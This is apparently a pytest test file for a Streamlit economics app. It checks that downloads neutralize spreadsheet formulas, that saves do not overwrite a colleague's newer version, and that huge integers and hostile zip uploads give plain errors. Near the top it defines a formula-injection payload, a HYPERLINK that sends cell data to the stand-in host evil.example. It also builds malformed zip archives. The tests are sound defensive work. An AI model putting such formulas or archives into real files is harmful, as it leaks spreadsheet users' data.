"""The third review of the app (its report's defects by number): formula text in the Compare page's
downloads, saves that would undo a colleague's newer library version, kept edits replaced without
a word, integers beyond the float range, and raw Python errors from hostile benchmark uploads.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
import tomllib
import unicodedata
import zipfile
from types import SimpleNamespace

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from econ.catalog import DEFAULT_SCENARIO, ready_made_scenarios
from econ.export import csv_text, safe_text
from econ.library import Ref, open_library
from econ.text import FORMULA_PREFIXES, looks_like_formula
from econ.ui import form, state
from econ.ui.form import find
from tests.test_app import APP, errors, go, widget
from tests.test_export import _is_number

FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&C3,"Open")&(A1'
OTHER = next(n for n in sorted(ready_made_scenarios()) if n != DEFAULT_SCENARIO)


def open_app(edits: dict | None = None, page: str | None = None) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=120)
    if edits is not None:
        at.query_params["scenario"] = DEFAULT_SCENARIO
        at.query_params["edits"] = state.encode(edits)
    at.run()
    assert not at.exception, at.exception
    if page:
        go(at, page)
    return at


# --- 1. formula text in the Compare page's downloads ----------------------------------------------


def _formula_fields(text: str) -> list[str]:
    """CSV fields a spreadsheet would read as a formula: starting with = + - @ tab or CR, not
    neutralized (a leading apostrophe) and not a number (-12.5 is a number)."""
    rows = csv.reader(io.StringIO(text, newline=""))
    return [
        field
        for row in rows
        for field in row
        if field.startswith(FORMULA_PREFIXES) and not _is_number(field)
    ]


@pytest.fixture
def downloads(monkeypatch) -> dict[str, bytes]:
    """What each download button of a run would hand the browser, by label."""
    from streamlit.elements.widgets import button

    captured: dict[str, bytes] = {}
    original = button.ButtonMixin.download_button

    def spy(self, label, data, *args, **kwargs):
        captured[label] = data.encode() if isinstance(data, str) else data
        return original(self, label, data, *args, **kwargs)

    monkeypatch.setattr(button.ButtonMixin, "download_button", spy)
    return captured


def test_a_formula_name_from_a_link_is_no_formula_in_the_compare_downloads(downloads):
    at = open_app({"name": FORMULA_NAME}, "compare")
    assert at.multiselect[0].value == ["current scenario", DEFAULT_SCENARIO]
    for what in ("results", "inputs"):
        text = downloads[f"Download the {what} (CSV)"].decode()
        header = next(csv.reader(io.StringIO(text)))
        assert any(FORMULA_NAME in h for h in header), header  # the name is there, as text
        assert not _formula_fields(text), _formula_fields(text)
    book = downloads["Download the comparison (workbook)"]
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(member).decode(), member
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(book))
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    headers = [c.value for c in workbook["Results"][1]] + [c.value for c in workbook["Inputs"][1]]
    assert any(FORMULA_NAME in str(h) for h in headers)


def test_csv_and_safe_text_neutralize_column_labels_and_index_names():
    frame = pd.DataFrame({"=cmd()": ["-x"], "@y": [1.0], "ok": [-2.5]})
    frame.index = pd.Index(["+row"], name="=idx")
    text = csv_text(frame)
    assert text.splitlines()[0] == "'=cmd(),'@y,ok"
    assert not _formula_fields(text)
    safe = safe_text(frame)
    assert list(safe.columns) == ["'=cmd()", "'@y", "ok"]
    assert safe.index.name == "'=idx" and list(safe.index) == ["'+row"]

    columns = pd.MultiIndex.from_tuples([("=a", "b"), ("c", "\td")], names=["-n", None])
    multi = pd.DataFrame([[1, 2]], columns=columns)
    safe = safe_text(multi)
    assert list(safe.columns) == [("'=a", "b"), ("c", "'\td")]
    assert safe.columns.names == ["'-n", None]
    assert not _formula_fields(csv_text(multi))
    # repeated labels are neutralized column by column
    repeated = pd.DataFrame([["=1", "=2"]], columns=["=x", "=x"])
    assert csv_text(repeated).splitlines() == ["'=x,'=x", "'=1,'=2"]


SIGNED_NUMBER = re.compile(
    r"[+-][\d,]+(\.\d+)?(%|x| pts| million| billion| trillion| quadrillion| quintillion)?"
)
"""A difference as the app writes it ("-4,904,368", "+0.4 pts", "-1.02x"): no formula."""


def _formula_text(values) -> list[str]:
    """Texts a spreadsheet would read as a formula: not neutralized and not a signed number."""
    return [v for v in map(str, values) if looks_like_formula(v) and not SIGNED_NUMBER.fullmatch(v)]


def test_the_compare_tables_hand_their_csv_toolbar_no_formula_text():
    """Streamlit's table toolbar ("Download as CSV") writes the frame's column names and cells as
    they are: the tables the pages show carry the formula name neutralized."""
    edits = {"name": FORMULA_NAME, "market": {"price_usd_per_mtok": 0.5}}
    at = open_app(edits, "compare")
    frames = [d.value for d in at.dataframe]
    assert len(frames) == 3
    for frame in frames:
        assert not _formula_text(frame.columns), list(frame.columns)
        assert not _formula_text(frame.astype(str).to_numpy().ravel())
        assert any(str(c).startswith("'" + FORMULA_NAME) for c in frame.columns)
    # the differences keep their signs: numbers, not formulas
    results = frames[0]
    changes = results[[c for c in results.columns if str(c).endswith("− base")][0]]
    assert any(str(v).startswith(("+", "-")) for v in changes), list(changes)


def test_a_normal_compare_table_reads_as_before():
    at = open_app(page="compare")
    columns = [str(c) for d in at.dataframe for c in d.value.columns]
    assert DEFAULT_SCENARIO in " ".join(columns) and not [c for c in columns if c.startswith("'")]
    cells = [str(v) for d in at.dataframe for v in d.value.astype(str).to_numpy().ravel()]
    assert not [c for c in cells if c.startswith("'")]


def test_spreadsheet_safe_neutralizes_text_keeps_numbers_styles_and_unchanged_frames():
    from econ.ui.common import _safe_data, spreadsheet_safe

    signed = ["-1,234", "+0.4 pts", "-12.5%", "+1.0% to +3.5%"]  # numbers keep their signs
    frame = pd.DataFrame({"=x": ["=a", *signed, "- x", "ok"], "n": range(7)})
    frame.index = pd.Index(["@r", *"bcdefg"], name="+i")
    safe = spreadsheet_safe(frame)
    assert list(safe.columns) == ["'=x", "n"] and safe.index.name == "'+i"
    assert list(safe["'=x"]) == ["'=a", *signed, "'- x", "ok"]
    assert list(safe.index[:2]) == ["'@r", "b"]
    assert list(frame.columns) == ["=x", "n"]  # the caller's frame is not changed
    plain = pd.DataFrame({"metric": ["NPV"], "deepseek": ["1,234"]})
    assert spreadsheet_safe(plain) is plain
    styled = _safe_data(frame.style.format({"n": "{:.2f}"}))
    body = styled._translate(False, False)["body"]
    assert [c["display_value"] for c in body[0][1:]] == ["'=a", "0.00"]


# --- 2. a save never silently undoes a colleague's newer version ---------------------------------


SEED_TEXT = ready_made_scenarios()[DEFAULT_SCENARIO].read_text()


@pytest.fixture
def library_url(tmp_path, monkeypatch):
    url = f"sqlite:///{tmp_path / 'library.db'}"
    monkeypatch.setenv("ECON_LIBRARY", url)
    monkeypatch.setenv("ECON_AUTHOR", "ada")
    with open_library(url) as library:
        library.save_text(SEED_TEXT, message="v1 baseline", author="alice")
    return url


def _bob_saves_version_2(url: str) -> None:
    with open_library(url) as library:
        text = SEED_TEXT.replace("gpu_count = 72", "gpu_count = 144", 1)
        library.save_text(text, message="bob: two racks", author="bob", base=1)


def _load_version_1_and_edit() -> AppTest:
    at = open_app(page="library")
    widget(at.selectbox, "Version").select(1).run()
    widget(at.button, "Load into the editor").click().run()
    assert not at.exception, at.exception
    price = next(n for n in at.sidebar.number_input if n.label.startswith("Market › Price"))
    price.set_value(0.5).run()
    return at


def _versions(url: str) -> list[tuple[int, int | None, str]]:
    with open_library(url) as library:
        return [(v.version, v.parent_version, v.author) for v in library.history(DEFAULT_SCENARIO)]


def _stale_warning(at: AppTest) -> str:
    found = [w.value for w in at.warning if "Nothing was saved" in w.value]
    assert len(found) == 1, [w.value for w in at.warning]
    return found[0]


def test_the_library_page_refuses_a_save_over_a_newer_version_then_saves_when_asked(library_url):
    at = _load_version_1_and_edit()
    _bob_saves_version_2(library_url)
    go(at, "library")
    widget(at.button, "Save as a new version").click().run()
    assert not at.exception, at.exception
    assert _versions(library_url) == [(1, None, "alice"), (2, 1, "bob")]  # nothing saved
    warning = _stale_warning(at)
    assert "version 2" in warning and "version 1" in warning and "bob" in warning
    assert not [s.value for s in at.success if "Saved" in s.value]

    widget(at.button, "Save anyway as a new version").click().run()
    assert not at.exception, at.exception
    assert _versions(library_url)[-1] == (3, 2, "ada")
    assert any("version 3" in s.value for s in at.success)
    assert not [w for w in at.warning if "Nothing was saved" in w.value]
    with open_library(library_url) as library:
        assert "price_usd_per_mtok = 0.5" in library.get(Ref(DEFAULT_SCENARIO, 3)).text

    # the version just saved is the new base: the next save needs no answer
    widget(at.button, "Save as a new version").click().run()
    assert _versions(library_url)[-1] == (4, 3, "ada")


def test_the_scenario_page_refuses_a_save_over_a_newer_version(library_url):
    at = _load_version_1_and_edit()
    _bob_saves_version_2(library_url)
    go(at, "scenario")
    widget(at.button, "Save to library").click().run()
    assert not at.exception, at.exception
    assert len(_versions(library_url)) == 2
    warning = _stale_warning(at)
    assert "version 2" in warning and "started from version 1" in warning
    widget(at.button, "Save anyway as a new version").click().run()
    assert not at.exception, at.exception
    assert _versions(library_url)[-1] == (3, 2, "ada")
    assert not [w for w in at.warning if "Nothing was saved" in w.value]


def test_an_up_to_date_library_version_saves_without_a_question(library_url):
    at = _load_version_1_and_edit()
    go(at, "library")
    widget(at.button, "Save as a new version").click().run()
    assert _versions(library_url)[-1] == (2, 1, "ada")
    assert not [w for w in at.warning if "Nothing was saved" in w.value]


def test_a_kept_copy_of_a_library_version_is_saved_against_that_version(library_url):
    at = _load_version_1_and_edit()
    at.sidebar.selectbox[0].set_value(OTHER).run()  # the edits of version 1 are kept
    kept = f"{state.SAVED_PREFIX}library:{DEFAULT_SCENARIO}@1 (edited)"
    _bob_saves_version_2(library_url)
    at.sidebar.selectbox[0].set_value(kept).run()
    go(at, "library")
    widget(at.button, "Save as a new version").click().run()
    assert len(_versions(library_url)) == 2
    assert "started from version 1" in _stale_warning(at)


def _bob_saves_version_2_of_the_seed(url: str) -> None:
    _bob_saves_version_2(url)
    assert _versions(url) == [(1, None, "alice"), (2, 1, "bob")]


def test_edits_of_the_ready_made_copy_are_not_saved_over_the_library_unasked(library_url):
    _bob_saves_version_2_of_the_seed(library_url)
    at = open_app(page="library")
    _price(at, 0.5)
    go(at, "library")
    widget(at.button, "Save as a new version").click().run()
    assert not at.exception, at.exception
    assert len(_versions(library_url)) == 2  # nothing saved
    warning = _stale_warning(at)
    assert "version 2" in warning and "bob" in warning and "did not start from" in warning
    assert not [s.value for s in at.success if "Saved" in s.value]
    button = widget(at.button, "Save anyway as a new version")
    assert "versions 1 to 2 stay" in button.help
    button.click().run()
    assert not at.exception, at.exception
    assert _versions(library_url)[-1] == (3, 2, "ada")
    assert not [w for w in at.warning if "Nothing was saved" in w.value]
    widget(at.button, "Save as a new version").click().run()  # now edits of version 3
    assert _versions(library_url)[-1] == (4, 3, "ada")


def test_a_scenario_renamed_to_a_stored_name_is_not_saved_over_it_unasked(library_url):
    at = AppTest.from_file(APP, default_timeout=120)
    at.query_params["scenario"] = OTHER
    at.query_params["edits"] = state.encode({"name": DEFAULT_SCENARIO})
    at.run()
    go(at, "scenario")
    widget(at.button, "Save to library").click().run()
    assert not at.exception, at.exception
    assert _versions(library_url) == [(1, None, "alice")]
    assert "now at version 1" in _stale_warning(at)
    widget(at.button, "Save anyway as a new version").click().run()
    assert _versions(library_url)[-1] == (2, 1, "ada")


def test_a_kept_copy_of_the_ready_made_scenario_is_not_saved_over_the_library_unasked(
    library_url,
):
    at = open_app()
    _price(at, 0.5)
    _pick(at, OTHER)  # the edits of the ready-made copy are kept
    at.sidebar.selectbox[0].set_value(f"{state.SAVED_PREFIX}{DEFAULT_SCENARIO} (edited)").run()
    _bob_saves_version_2_of_the_seed(library_url)
    go(at, "library")
    widget(at.button, "Save as a new version").click().run()
    assert len(_versions(library_url)) == 2
    assert "did not start from" in _stale_warning(at)


class _ColleagueSavesInBetween:
    """A library whose name is free when the page looks (`list`), saved by bob right after."""

    def __init__(self, url: str):
        self.url, self.looked = url, False

    def list(self):
        with open_library(self.url) as library:
            seen = library.list()
        if not self.looked:
            with open_library(self.url) as library:
                library.save_text(SEED_TEXT, message="bob's own", author="bob")
        self.looked = True
        return seen

    def save_text(self, text, **kwargs):
        with open_library(self.url) as library:
            return library.save_text(text, **kwargs)


def test_a_name_saved_by_a_colleague_after_the_page_looked_is_not_saved_over(tmp_path, monkeypatch):
    from econ.ui import saving

    monkeypatch.setattr(saving, "st", SimpleNamespace(session_state={}))
    url = f"sqlite:///{tmp_path / 'library.db'}"
    data = tomllib.loads(SEED_TEXT.replace("gpu_count = 72", "gpu_count = 144", 1))
    stale = saving.save(_ColleagueSavesInBetween(url), data, message="ada's")
    assert isinstance(stale, saving.Stale), stale
    assert (stale.base, stale.latest, stale.author) == (None, 1, "bob")
    assert "did not start from a version of it" in stale.message()
    with open_library(url) as library:
        assert [(v.version, v.author) for v in library.history(DEFAULT_SCENARIO)] == [(1, "bob")]


def test_a_name_spelled_decomposed_in_its_file_is_the_stored_name(library_url):
    name = unicodedata.normalize("NFD", "Müller plan")
    text = re.sub(r'^name = ".*"$', f'name = "{name}"', SEED_TEXT, count=1, flags=re.M)
    with open_library(library_url) as library:
        stored = library.save_text(text, message="v1", author="alice").name
    assert stored == unicodedata.normalize("NFC", name) != name
    at = open_app(page="library")
    widget(at.selectbox, "Scenario").select(stored).run()
    widget(at.selectbox, "Version").select(1).run()
    widget(at.button, "Load into the editor").click().run()
    _price(at, 0.5)
    with open_library(library_url) as library:
        bob = text.replace("gpu_count = 72", "gpu_count = 144", 1)
        library.save_text(bob, message="bob", author="bob", base=1)
    go(at, "library")
    widget(at.button, "Save as a new version").click().run()
    assert not at.exception, at.exception
    with open_library(library_url) as library:
        assert [v.version for v in library.history(stored)] == [1, 2]
    assert "started from version 1" in _stale_warning(at)
    widget(at.button, "Save anyway as a new version").click().run()
    with open_library(library_url) as library:
        assert [(v.version, v.parent_version) for v in library.history(stored)][-1] == (3, 2)


# --- 3. kept edits are never replaced without a word ----------------------------------------------


def _price(at: AppTest, value: float) -> None:
    box = next(n for n in at.sidebar.number_input if n.label.startswith("Market › Price"))
    box.set_value(value).run()


def _pick(at: AppTest, name: str) -> None:
    widget(at.sidebar.selectbox, "Ready-made scenario").set_value(name).run()
    assert not at.exception, at.exception


def test_a_second_edit_of_the_same_scenario_is_kept_beside_the_first():
    at = open_app()
    _price(at, 0.91)
    _pick(at, OTHER)
    _pick(at, DEFAULT_SCENARIO)
    _price(at, 0.55)
    _pick(at, OTHER)
    kept = {
        name: state.parse_toml(text, name)["market"]["price_usd_per_mtok"]
        for name, text in at.session_state[state.SAVED].items()
    }
    first, second = f"{DEFAULT_SCENARIO} (edited)", f"{DEFAULT_SCENARIO} (edited 2)"
    assert kept == {first: 0.91, second: 0.55}
    toast = at.toast[-1].value
    assert second in toast and first in toast and "unchanged" in toast


def test_the_same_edits_kept_twice_are_kept_once_and_the_notice_says_where():
    at = open_app()
    _price(at, 0.91)
    _pick(at, OTHER)
    _pick(at, DEFAULT_SCENARIO)
    _price(at, 0.91)
    _pick(at, OTHER)
    assert list(at.session_state[state.SAVED]) == [f"{DEFAULT_SCENARIO} (edited)"]
    assert "already kept" in at.toast[-1].value


# --- 4. integers beyond the float range -----------------------------------------------------------


@pytest.mark.parametrize("page", [None, "scenario", "results", "compare"])
def test_a_link_with_a_huge_integer_shows_an_error_naming_the_field(page):
    at = open_app({"fleet": {"gpu_count": 10**400}}, page)
    shown = errors(at)
    assert any("GPU count" in e and "expected a finite number" in e for e in shown), shown


def test_an_uploaded_scenario_with_a_5000_digit_integer_is_an_error_naming_the_field():
    at = open_app(page="scenario")
    text = SEED_TEXT.replace("gpu_count = 72", "gpu_count = " + "1" * 5000, 1)
    at.get("file_uploader")[0].upload("bigint.toml", text.encode(), "application/toml").run()
    assert not at.exception, at.exception
    shown = [e for e in errors(at) if "bigint.toml" in e]
    assert len(shown) == 1, errors(at)
    assert "fleet.gpu_count" in shown[0] and "expected a finite number" in shown[0]
    assert "set_int_max_str_digits" not in shown[0]
    assert at.session_state[state.DATA]["fleet"]["gpu_count"] == 72  # unchanged


def test_the_toml_box_refuses_a_5000_digit_integer_with_a_message():
    at = open_app(page="scenario")
    box = next(t for t in at.text_area if t.label == "The whole scenario as TOML")
    box.input(SEED_TEXT.replace("gpu_count = 72", "gpu_count = " + "1" * 5000, 1)).run()
    widget(at.button, "Apply the TOML").click().run()
    assert not at.exception, at.exception
    shown = [e for e in errors(at) if "not applied" in e]
    assert len(shown) == 1 and "expected a finite number" in shown[0], errors(at)
    assert "fleet.gpu_count" in shown[0]


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("name = 'x'\n[fleet]\ngpu_count = " + "7" * 4400, "fleet.gpu_count"),
        (
            "[[throughput.steps]]\nmonth = 1\n[[throughput.steps]]\nmonth = -" + "1_2" * 2200,
            "throughput.steps[1].month",
        ),
        ("a = {b = [1, " + "9" * 4400 + "]}", "a.b[1]"),
    ],
)
def test_an_integer_too_long_to_read_is_named_by_its_field(text, path):
    from econ.scenario import ScenarioError

    with pytest.raises(ScenarioError) as caught:
        state.parse_scenario_text(text, "up.toml")
    assert caught.value.path == path
    assert "digits" in caught.value.expected and "expected a finite number" in caught.value.expected


def test_number_helpers_accept_huge_integers_without_overflow():
    gpus = find("fleet.gpu_count")
    assert form._is_number(10**400) is False
    assert form.fits_widget(gpus, 10**400) is False
    assert form.fits_widget(gpus, 2**60) is False  # beyond what a browser's number box holds
    assert form.fits_widget(gpus, 72) is True
    assert state.huge_integers({"fleet": {"gpu_count": -(10**400)}, "x": [1, 10**309]}) == [
        ("fleet.gpu_count", 401),
        ("x[1]", 310),
    ]


def test_an_integer_too_large_for_a_number_box_is_kept_not_emptied():
    at = open_app({"fleet": {"gpu_count": 2**60}}, "results")
    go(at, "scenario")
    assert at.session_state[state.DATA]["fleet"]["gpu_count"] == 2**60


# --- 5. hostile benchmark uploads: one plain error each --------------------------------------------


def _zip(members) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def _encrypted() -> bytes:
    data = bytearray(_zip([("r.json", b"{}")]))
    data[data.find(b"PK\x03\x04") + 6] |= 1  # the "encrypted" flag, local and central headers
    data[data.find(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


UPLOADS = {
    "file_then_dir.zip": (_zip([("a", b"x"), ("a/b", b"y")]), ["'a'", "file and a folder"]),
    "dir_then_file.zip": (_zip([("a/b", b"y"), ("a", b"x")]), ["'a'", "file and a folder"]),
    "longname.zip": (_zip([("n" * 300 + ".json", b"{}")]), ["'nnnn", "too long"]),
    "encrypted.zip": (_encrypted(), ["'r.json'", "encrypted"]),
    "bigint.json": (
        b'{"output_throughput": 1' + b"1" * 5000 + b"}",
        ["digits", "expected a finite number"],
    ),
    "l" * 300 + ".json": (b'{"output_throughput": 1}', []),
}
RAW_PYTHON = ("Errno", "Error)", "ZipInfo", "set_int_max_str_digits", "failed (")


@pytest.mark.parametrize("name", list(UPLOADS), ids=lambda n: n[:20])
def test_a_hostile_benchmark_upload_is_one_plain_error_naming_it(name):
    content, words = UPLOADS[name]
    at = open_app(page="throughput")
    at.get("file_uploader")[0].upload(name, content, "application/octet-stream").run()
    assert not at.exception, at.exception
    shown = [e for e in errors(at) if name[:40] in e]
    assert len(shown) == 1, errors(at)  # once, not once per tab
    assert "expected" in shown[0]
    for word in words:
        assert word in shown[0], shown[0]
    for raw in RAW_PYTHON:
        assert raw not in shown[0], shown[0]
    assert tempfile.gettempdir() not in shown[0]  # no path of the server's temporary folder
